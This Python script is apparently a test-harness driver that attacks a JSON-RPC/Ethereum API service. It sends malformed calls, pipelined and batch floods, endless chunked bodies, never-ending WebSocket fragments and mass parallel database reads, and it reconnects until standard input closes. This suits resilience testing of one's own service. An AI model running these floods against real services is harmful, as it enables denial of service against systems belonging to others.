"""A hostile client of a running service, until standard input ends: `attack.py NAME HOST PORT PATH KEY`.

It prints a line of JSON when it has begun. A connection that the service closes is opened again after a moment.
"""

import asyncio
import contextlib
import json
import sys
from collections.abc import Callable, Coroutine
from dataclasses import dataclass

AGAIN_S = 0.02
HANDSHAKE_S = 0.2
READ_BYTES = 1 << 16
# Calls that a strict upstream rejects, crashes on, or answers without an id.
MALFORMED = (
    b'{"jsonrpc":"2.0","id":1,"method":"eth_chainId","params":{}}',
    b'{"jsonrpc":"2.0","id":1,"method":"eth_call","params":[{"to":"0x1","data":7},[]]}',
    b'{"jsonrpc":"2.0","id":1,"method":"eth_getLogs","params":[{"fromBlock":"0xfffffffffffffffff"}]}',
    b'{"jsonrpc":"2.0","id":[],"method":"eth_chainId","params":[]}',
    b"[" + b",".join([b"{}"] * 100) + b"]",
    b"[" * 5000,
)
MALFORMED_PER_S = 50
COPIES = 64
CHUNKS = 4096
FRAGMENTS = 4096
PARALLEL = 200
BURST_EVERY_S = 1.0
BATCH = 1000


@dataclass(frozen=True, slots=True)
class Place:
    host: str
    port: int
    path: str
    key: str

    def head(self, method: str, path: str, *more: str) -> bytes:
        lines = (f"{method} {path} HTTP/1.1", f"Host: {self.host}:{self.port}", f"X-API-Key: {self.key}", *more)
        return ("\r\n".join(lines) + "\r\n\r\n").encode()

    def post(self, body: bytes) -> bytes:
        return self.head("POST", self.path, "Content-Type: application/json", f"Content-Length: {len(body)}") + body


Attack = Callable[[Place, asyncio.StreamWriter], Coroutine[None, None, None]]


async def malformed(place: Place, writer: asyncio.StreamWriter) -> None:
    """Calls that fail, at a steady rate."""
    while True:
        for body in MALFORMED:
            writer.write(place.post(body))
            await asyncio.sleep(1 / MALFORMED_PER_S)


async def pipelined(place: Place, writer: asyncio.StreamWriter) -> None:
    """As many requests ahead of their replies as the service accepts."""
    call = place.post(b'{"jsonrpc":"2.0","id":1,"method":"eth_getBalance","params":["0x%040d","latest"]}' % 7)
    await flood(writer, call * COPIES)


async def chunks(place: Place, writer: asyncio.StreamWriter) -> None:
    """A body of one-byte chunks for a resource that takes none."""
    writer.write(place.head("GET", "/healthz", "Transfer-Encoding: chunked"))
    await flood(writer, b"1\r\nx\r\n" * CHUNKS)


async def fragments(place: Place, writer: asyncio.StreamWriter) -> None:
    """A WebSocket message of empty fragments that never ends."""
    upgrade = ("Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Version: 13")
    path = place.path.replace("/rpc/", "/ws/")
    writer.write(place.head("GET", path, *upgrade, "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="))
    await asyncio.sleep(HANDSHAKE_S)
    writer.write(b"\x01\x80" + bytes(4))
    await flood(writer, (b"\x00\x80" + bytes(4)) * FRAGMENTS)


async def batches(place: Place, writer: asyncio.StreamWriter) -> None:
    """The largest batches, one after another."""
    calls = [
        {"jsonrpc": "2.0", "id": n, "method": "eth_getBalance", "params": [f"0x{n:040x}", "latest"]}
        for n in range(BATCH)
    ]
    await flood(writer, place.post(json.dumps(calls).encode()))


async def database(place: Place, writer: asyncio.StreamWriter) -> None:
    """Reads of a resource in the database: one at a time on each connection, all at the same moment."""
    while True:
        writer.write(place.head("GET", "/v1/wallets"))
        await asyncio.sleep(BURST_EVERY_S)


async def flood(writer: asyncio.StreamWriter, data: bytes) -> None:
    while True:
        writer.write(data)
        await writer.drain()
        await asyncio.sleep(0)


async def until_closed(attack: Coroutine[None, None, None], reader: asyncio.StreamReader) -> None:
    with contextlib.suppress(ExceptionGroup):
        async with asyncio.TaskGroup() as group:
            attacking = group.create_task(attack)
            await discard(reader)
            attacking.cancel()


async def discard(reader: asyncio.StreamReader) -> None:
    with contextlib.suppress(ConnectionError):
        while await reader.read(READ_BYTES):
            pass


# Each attack with its number of connections.
ATTACKS: dict[str, tuple[Attack, int]] = {
    "malformed": (malformed, 1),
    "pipelined": (pipelined, 1),
    "chunks": (chunks, 3),
    "fragments": (fragments, 1),
    "batches": (batches, 4),
    "database": (database, PARALLEL),
}


async def repeat(attack: Attack, place: Place) -> None:
    while True:
        with contextlib.suppress(ConnectionError):
            reader, writer = await asyncio.open_connection(place.host, place.port)
            try:
                await until_closed(attack(place, writer), reader)
            finally:
                writer.close()
        await asyncio.sleep(AGAIN_S)


async def main(name: str, place: Place) -> None:
    attack, connections = ATTACKS[name]
    async with asyncio.TaskGroup() as group:
        for _ in range(connections):
            group.create_task(repeat(attack, place))
        print(json.dumps({"attack": name}), flush=True)
        await asyncio.to_thread(sys.stdin.read)
        raise SystemExit


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], Place(sys.argv[2], int(sys.argv[3]), sys.argv[4], sys.argv[5])))
